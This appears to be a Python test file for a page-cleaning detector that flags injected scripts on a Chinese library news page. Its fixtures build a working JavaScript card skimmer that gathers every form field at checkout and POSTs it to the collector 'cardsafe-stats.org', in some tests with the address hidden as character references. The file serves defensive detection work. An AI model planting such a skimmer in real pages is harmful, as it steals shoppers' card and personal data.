"""Code that reads every field of the page and sends it to a host nothing else of the page names
(v45 analysis §1 B3, §7.3): a card skimmer waits for a checkout address or jQuery, so the run at
load sees it only set a cookie; its text shows what it is written to do, wherever its address is
spelt plainly or in character references. A form's own script (it asks its form for the fields),
and a page-wide one sending to a host the page links, stay clean."""
from __future__ import annotations

from scraper.clean import clean_page

URL = "http://lib.lanshan-college.edu.cn/show/news_info?id=16275"

BODY = ("<p>11月26日,图书馆召开读者服务工作推进会,围绕资源建设、阅读推广等议题开展研讨。</p>"
        "<p>会上,各部门负责人汇报了本学期服务运行情况,就完善读者服务体系提出意见建议。</p>"
        "<p>馆领导在讲话中要求,要认真梳理问题清单,推动各项任务落到实处。</p>")


def _page(head: str = "", links: str = "") -> bytes:
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>图书馆召开读者服务工作推进会_图书馆</title>'
            f'{head}</head><body><header><a href="/">图书馆</a><nav><a href="/">首页</a>'
            f'<a href="/tzgg/">通知公告</a>{links}</nav></header>'
            '<article><h1>图书馆召开读者服务工作推进会</h1><div class="info">发布时间：2024-11-27 来源：图书馆</div>'
            f'<div id="vsb_content">{BODY}</div></article>'
            '<footer><p>主办：图书馆</p></footer></body></html>').encode()


def _entities(s: str) -> str:
    return "".join(f"&#{ord(c)};" for c in s)


COLLECTOR = "https://cardsafe-stats.org/p.php"


def _skimmer(address: str, scope: str = "document") -> str:
    return ('<script>jQuery(function($){$("button").on("click",function(){'
            'if(/onepage|checkout/.test(location)){var t="";'
            f'var c={scope}.querySelectorAll("input, select, textarea");'
            'for(var i=0;i<c.length;i++){if(c[i].value.length>0){t+=c[i].name+"="+c[i].value+"&"}}'
            f'var x=new XMLHttpRequest();x.open("POST",{address},true);x.send(t)}}}})}});</script>')


def test_a_skimmer_with_an_entity_spelt_address_is_spam():
    a = clean_page(_page(_skimmer(f'$("<div/>").html("{_entities(COLLECTOR)}").text()')), url=URL)
    assert a.hijacked and any("cardsafe-stats.org" in f.evidence for f in a.findings)
    assert "资源建设" in a.text


def test_a_skimmer_with_a_plain_address_is_spam():
    a = clean_page(_page(_skimmer(f'"{COLLECTOR}"')), url=URL)
    assert a.hijacked and any("cardsafe-stats.org" in f.evidence for f in a.findings)


def test_a_forms_own_script_is_clean():
    a = clean_page(_page(_skimmer(f'"{COLLECTOR}"', scope="this.form")), url=URL)
    assert not a.hijacked


def test_a_page_wide_sender_to_a_host_the_page_links_is_clean():
    a = clean_page(_page(_skimmer(f'"{COLLECTOR}"'), links='<a href="https://www.cardsafe-stats.org/">统计平台</a>'),
                   url=URL)
    assert not a.hijacked
